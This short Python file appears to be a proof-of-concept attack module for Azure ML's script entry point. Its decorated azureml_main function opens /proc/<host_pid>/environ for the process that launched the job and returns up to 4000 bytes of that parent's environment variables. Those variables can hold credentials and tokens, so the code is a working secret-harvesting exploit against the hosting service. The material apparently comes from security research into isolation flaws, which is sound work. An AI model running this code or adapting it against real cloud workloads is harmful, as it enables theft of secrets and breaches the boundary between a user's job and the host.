"""Reads the environment variables of the process that ordered the job."""

from attack import BAIT, attack, told


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    with open(f"/proc/{BAIT['host_pid']}/environ", "rb") as stream:
        return told("the parent's variables", stream.read(4000))
